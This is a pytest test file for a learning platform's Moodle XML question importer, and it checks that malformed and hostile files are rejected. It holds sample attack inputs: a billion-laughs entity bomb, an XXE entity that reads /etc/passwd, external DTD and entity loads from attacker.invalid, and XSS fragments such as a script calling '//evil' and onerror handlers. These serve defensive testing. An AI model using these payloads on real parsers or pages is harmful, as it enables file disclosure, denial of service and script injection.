"""Importing Moodle XML into question banks: hostile and malformed XML first."""

import time
from decimal import Decimal

import pytest

from assessments.models import Question, QuestionBank
from lms.core.imports import UnreadableFile
from tests.assessments.fixtures import (
    BANK_NAME,
    EXPECTED_DATA,
    RANDOM_ID,
    assert_random_choice_ids,
    codes,
    command,
    content,
    counts,
    load,
    run,
    stored,
)

pytestmark = pytest.mark.django_db

CATEGORY = (
    '<question type="category"><category><text>$course$/top/LD.07/2</text></category></question>'
)


def quiz(*questions: str, category: str = CATEGORY) -> bytes:
    body = "\n".join((category, *questions))
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n{body}\n</quiz>\n'.encode()


def truefalse(text: str = "Soal benar salah", right: str = "true") -> str:
    wrong = "false" if right == "true" else "true"
    return (
        f'<question type="truefalse"><questiontext format="html"><text>{text}</text>'
        f'</questiontext><answer fraction="100"><text>{right}</text></answer>'
        f'<answer fraction="0"><text>{wrong}</text></answer></question>'
    )


def multichoice(text: str, *answers: tuple[str, str], single: bool = True) -> str:
    body = "".join(
        f'<answer fraction="{fraction}" format="html"><text>{answer}</text></answer>'
        for fraction, answer in answers
    )
    return (
        f'<question type="multichoice"><questiontext format="html"><text>{text}</text>'
        f"</questiontext><single>{'true' if single else 'false'}</single>{body}</question>"
    )


# ------------------------------------------------------------------ hostile XML


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<quiz><question type="category"><category><text>LD.07/2</text></category></question>
<question type="truefalse"><questiontext><text>&lol9;</text></questiontext>
<answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer>
</question></quiz>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<quiz><question type="category"><category><text>LD.07/2</text></category></question>
<question type="shortanswer"><questiontext><text>&xxe;</text></questiontext>
<answer fraction="100"><text>x</text></answer></question></quiz>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<quiz></quiz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.invalid/quiz.dtd">
<quiz></quiz>"""


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd"],
)
def test_doctype_and_entities_are_refused_before_anything_is_expanded(data):
    before = counts()
    started = time.monotonic()
    with pytest.raises(UnreadableFile) as caught:
        run(data, "soal.xml", commit=True)
    assert time.monotonic() - started < 5
    assert caught.value.code == "xml_entities"
    assert "billion laughs" in caught.value.message and "XXE" in caught.value.message
    assert counts() == before


@pytest.mark.parametrize(
    ("data", "code", "hint"),
    [
        (quiz(truefalse()).replace(b"</quiz>", b""), "bad_xml", "baris"),
        (b"<quiz><question type='truefalse'>", "bad_xml", "baris 1"),
        (b'<?xml version="1.0"?>\n<quiz>\n<question>\n</quiz>', "bad_xml", "baris 4"),
        (b"<quiz>&undefined;</quiz>", "bad_xml", "baris 1"),
        (b"<quiz></quiz><quiz></quiz>", "bad_xml", "baris 1"),
        (b"<html><body>bukan soal</body></html>", "not_moodle_xml", "<html>"),
        (b"<quiz>" + b"<a>" * 200 + b"</a>" * 200 + b"</quiz>", "xml_too_complex", "terlalu"),
        (
            quiz('<question type="multichoice">' + "<x/>" * 6000 + "</question>"),
            "xml_too_complex",
            "terlalu",
        ),
    ],
    ids=["unclosed", "truncated", "mismatched", "undefined-entity", "two-roots", "html", "deep",
         "wide"],
)  # fmt: skip
def test_broken_xml_is_rejected_whole_with_a_clear_message(data, code, hint):
    before = counts()
    with pytest.raises(UnreadableFile) as caught:
        run(data, "soal.xml", commit=True)
    assert caught.value.code == code
    assert hint in caught.value.message
    assert counts() == before


def test_broken_xml_after_valid_questions_writes_nothing():
    data = quiz(truefalse("Satu"), truefalse("Dua"), "<question type='truefalse'><oops></question>")
    before = counts()
    with pytest.raises(UnreadableFile):
        run(data, "soal.xml", commit=True)
    assert counts() == before


def test_a_file_over_the_size_limit_is_refused(settings):
    settings.LMS_IMPORT_MAX_BYTES = 4096
    data = quiz(*(truefalse(f"Soal {n}") for n in range(50)))
    with pytest.raises(UnreadableFile) as caught:
        run(data, "besar.xml")
    assert caught.value.code == "too_big"


def test_more_questions_than_the_limit_is_rejected(settings):
    settings.LMS_IMPORT_MAX_QUESTIONS = 2
    report = run(quiz(*(truefalse(f"Soal {n}") for n in range(4))), "soal.xml", commit=True)
    assert codes(report) == [(3, "", "too_many_items")]
    assert not report.committed and Question.objects.count() == 0


TINY_PNG = (  # a 1 x 1 PNG
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC"
)


def test_scripts_handlers_and_plugin_images_are_removed_with_notes():
    question = (
        '<question type="multichoice"><questiontext format="html"><text><![CDATA['
        "<p>Pilih <b>satu</b><script>fetch('//evil')</script></p>"
        '<img src="@@PLUGINFILE@@/diagram.png" onerror="alert(1)">'
        "]]></text>"
        f'<file name="diagram.png" path="/" encoding="base64">{TINY_PNG}</file>'
        "</questiontext>"
        '<generalfeedback format="html"><text><![CDATA[<a href="javascript:alert(2)">Lihat'
        "</a> pembahasan]]></text></generalfeedback>"
        "<single>true</single>"
        '<answer fraction="100"><text><![CDATA[<span onmouseover="x()">Ya</span>]]></text>'
        "<feedback><text><![CDATA[<iframe src='//evil'></iframe>Benar]]></text></feedback>"
        "</answer>"
        '<answer fraction="0"><text>Tidak</text></answer></question>'
    )
    report = run(quiz(question), "soal.xml", commit=True)
    assert report.committed, report.errors
    version = Question.objects.get().current_version
    # issue 10 item 8: the embedded image is imported (docs/user-guide.md), its handler is not
    assert version.text.startswith('<p>Pilih <b>satu</b></p><img src="/media/images/')
    assert "onerror" not in version.text and "script" not in version.text
    assert version.explanation == "Lihat pembahasan"
    assert RANDOM_ID.fullmatch(version.data["choices"][0]["id"])
    assert content("single", version.data)["choices"][0] == {
        "text": "Ya",
        "correct": True,
        "feedback": "Benar",
    }
    notes = " ".join(report.notes)
    for marker in ("<script>", "onerror=", "onmouseover=", "<iframe>", "href=javascript:"):
        assert marker in notes
    assert "diagram.png" in notes and "teks alternatif" in notes  # it has no alt text


# ------------------------------------------------------------------ item-level errors


def test_unsupported_types_are_item_errors_and_nothing_is_written():
    others = [
        '<question type="essay"><questiontext><text>Jelaskan.</text></questiontext></question>',
        '<question type="multianswer"><questiontext><text>{1:SA:=x}</text></questiontext>'
        "</question>",
        '<question type="calculated"><questiontext><text>{a}+1</text></questiontext></question>',
        '<question type="description"><questiontext><text>Info</text></questiontext></question>',
        '<question type="ddwtos"><questiontext><text>[[1]]</text></questiontext></question>',
    ]
    before = counts()
    report = run(quiz(truefalse(), *others), "soal.xml", commit=True)
    assert codes(report) == [(n, "type", "unsupported_type") for n in range(2, 7)]
    assert "tidak didukung" in report.errors[0].message and "essay" in report.errors[0].message
    assert report.total_rows == 6 and report.valid_rows == 1
    assert not report.committed and counts() == before


@pytest.mark.parametrize(
    ("question", "column", "code"),
    [
        # issue 10: two 100% answers in a single-answer question are accepted (see
        # test_moodle_format_xml.py)
        (multichoice("Tak ada benar", ("0", "a"), ("0", "b")), "answer", "invalid_question"),
        ('<question type="shortanswer"><questiontext><text>Isi</text></questiontext>'
         '<answer fraction="50"><text>x</text></answer></question>', "answer", "invalid_question"),
        ('<question type="numerical"><questiontext><text>Angka</text></questiontext>'
         '<answer fraction="100"><text>tiga</text></answer></question>', "answer",
         "invalid_question"),
        ('<question type="truefalse"><questiontext><text>BS</text></questiontext>'
         '<answer fraction="100"><text>ya</text></answer></question>', "answer", "bad_xml"),
        ('<question type="multichoice"><single>true</single></question>', "questiontext",
         "bad_xml"),
        ('<question type="multichoice"><questiontext><text>Tanpa jawaban</text></questiontext>'
         "</question>", "answer", "bad_xml"),
        (multichoice("Fraksi", ("seratus", "a"), ("0", "b")), "answer", "bad_xml"),
        ('<question type="truefalse"><questiontext><text>Bobot</text></questiontext>'
         "<defaultgrade>0.125</defaultgrade>"
         '<answer fraction="100"><text>true</text></answer>'
         '<answer fraction="0"><text>false</text></answer></question>', "defaultgrade",
         "invalid_points"),
        # issue 10: the limits are questions.MAX_CHOICES and MAX_PAIRS (20), no longer 6
        (multichoice("Banyak", *(("100" if n == 0 else "0", f"p{n}") for n in range(21))),
         "answer", "too_many_choices"),
        ('<question type="matching"><questiontext><text>Banyak pasang</text></questiontext>'
         + "".join(f"<subquestion><text>s{n}</text><answer><text>j{n}</text></answer>"
                   "</subquestion>" for n in range(21)) + "</question>", "answer",
         "too_many_pairs"),
        (truefalse("   "), "questiontext", "invalid_question"),
    ],
)  # fmt: skip
def test_invalid_questions_are_item_errors(question, column, code):
    before = counts()
    report = run(quiz(truefalse("Soal lain yang baik"), question), "soal.xml", commit=True)
    assert (2, column, code) in codes(report), report.errors
    assert not report.committed and counts() == before


def test_questions_before_any_category_are_errors():
    report = run(quiz(truefalse("Satu"), truefalse("Dua"), category=""), "soal.xml")
    assert codes(report) == [
        (1, "category", "missing_category"),
        (2, "category", "missing_category"),
    ]


def test_an_unknown_competency_is_an_item_error_and_nothing_is_created():
    category = (
        '<question type="category"><category><text>$course$/XX.99/2</text></category></question>'
    )
    before = counts()
    report = run(quiz(truefalse(), category=category), "soal.xml", commit=True)
    assert codes(report) == [(1, "category", "unknown_competency")]
    assert counts() == before


def test_a_category_without_a_level_is_an_error():
    category = (
        '<question type="category"><category><text>$course$/top/LD.07</text></category></question>'
    )
    report = run(quiz(truefalse(), category=category), "soal.xml")
    assert codes(report) == [(1, "category", "bad_category")]


def test_duplicates_in_one_file_are_errors():
    report = run(quiz(truefalse("Sama"), truefalse("sama")), "soal.xml", commit=True)
    assert codes(report) == [
        (1, "questiontext", "duplicate_in_file"),
        (2, "questiontext", "duplicate_in_file"),
    ]


# ------------------------------------------------------------------ happy paths


def test_every_supported_type_imports_with_exact_data():
    report = run(load("all_types.xml"), "all_types.xml")
    assert report.ok and report.created == 6 and QuestionBank.objects.count() == 0
    report = run(load("all_types.xml"), "all_types.xml", commit=True)
    assert report.committed, report.errors
    versions = stored()
    assert {t: content(t, v.data) for t, v in versions.items()} == EXPECTED_DATA
    for question_type, version in versions.items():
        assert_random_choice_ids(question_type, version.data)
    assert versions["single"].text == "<p>Manakah kata sandi yang paling <b>kuat</b>?</p>"
    assert versions["single"].explanation == "Kata sandi kuat panjang, acak, dan unik."
    assert versions["single"].points == Decimal("2.00")
    assert versions["short"].text == 'Singkatan dari "one-time password" adalah ...'
    bank = QuestionBank.objects.get()
    assert (bank.competency.code, bank.level, bank.name) == ("LD.07", 2, BANK_NAME)


def test_moodle_specifics_partial_credit_usecase_units_and_distractors():
    questions = [
        multichoice("Satu jawaban", ("100", "a"), ("50", "b"), ("0", "c")),
        multichoice("Beberapa", ("66.66667", "a"), ("33.33333", "b"), ("-100", "c"), single=False),
        '<question type="shortanswer"><questiontext><text>Kota</text></questiontext>'
        "<usecase>1</usecase>"
        '<answer fraction="100"><text>Jakarta</text></answer>'
        '<answer fraction="100"><text>Jak*</text></answer>'
        '<answer fraction="50"><text>DKI</text></answer></question>',
        '<question type="numerical"><questiontext><text>Berapa</text></questiontext>'
        '<answer fraction="100"><text>3.5</text><tolerance>0.25</tolerance></answer>'
        '<answer fraction="0"><text>*</text></answer>'
        "<units><unit><multiplier>1</multiplier><unit_name>cm</unit_name></unit></units>"
        "</question>",
        '<question type="matching"><questiontext><text>Jodohkan</text></questiontext>'
        "<subquestion><text>A</text><answer><text>1</text></answer></subquestion>"
        "<subquestion><text>B</text><answer><text>2</text></answer></subquestion>"
        "<subquestion><text></text><answer><text>pengecoh</text></answer></subquestion>"
        "</question>",
        '<question type="truefalse"><questiontext format="plain_text"><text>a &lt; b?'
        "</text></questiontext>"
        '<answer fraction="0"><text>true</text></answer>'
        '<answer fraction="100"><text>false</text></answer></question>',
    ]
    report = run(quiz(*questions), "soal.xml", commit=True)
    assert report.committed, report.errors
    data = {
        q.type: q.current_version.data for q in Question.objects.select_related("current_version")
    }
    assert [c["correct"] for c in data["single"]["choices"]] == [True, False, False]
    assert [c["correct"] for c in data["multiple"]["choices"]] == [True, True, False]
    assert data["short"] == {"accepted": ["Jakarta", "Jak*"], "case_sensitive": True}
    assert data["numeric"] == {"answer": "3.5", "tolerance": "0.25"}
    assert data["matching"]["pairs"] == [
        {"id": "1", "prompt": "A", "answer": "1"},
        {"id": "2", "prompt": "B", "answer": "2"},
    ]
    assert [c["correct"] for c in data["true_false"]["choices"]] == [False, True]
    assert Question.objects.get(type="true_false").current_version.text == "a &lt; b?"
    notes = " ".join(report.notes)
    for fragment in ("dihitung salah", "fraction", "DKI", "wildcard", "satuan", "pengecoh"):
        assert fragment in notes


def test_reimporting_the_same_file_changes_nothing():
    run(load("all_types.xml"), "all_types.xml", commit=True)
    before = counts()
    report = run(load("all_types.xml"), "all_types.xml", commit=True)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 6)
    assert counts() == before


def test_xml_is_recognised_by_content_not_name():
    report = run(load("all_types.xml"), "soal.txt")
    assert report.ok and report.created == 6
    assert any("Moodle XML" in note for note in report.notes)


def test_lms_import_exit_codes(tmp_path):
    good = tmp_path / "soal.xml"
    good.write_bytes(load("all_types.xml"))
    assert command("lms_import", "questions", str(good), "--commit")[0] == 0
    assert Question.objects.count() == 6

    unsupported = tmp_path / "esai.xml"
    unsupported.write_bytes(
        quiz('<question type="essay"><questiontext><text>Jelaskan</text></questiontext></question>')
    )
    status, out, _err = command("lms_import", "questions", str(unsupported), "--commit")
    assert status == 1 and "unsupported_type" in out

    hostile = tmp_path / "lol.xml"
    hostile.write_bytes(BILLION_LAUGHS)
    status, _out, err = command("lms_import", "questions", str(hostile), "--commit")
    assert status == 2 and "xml_entities" in err
    assert Question.objects.count() == 6
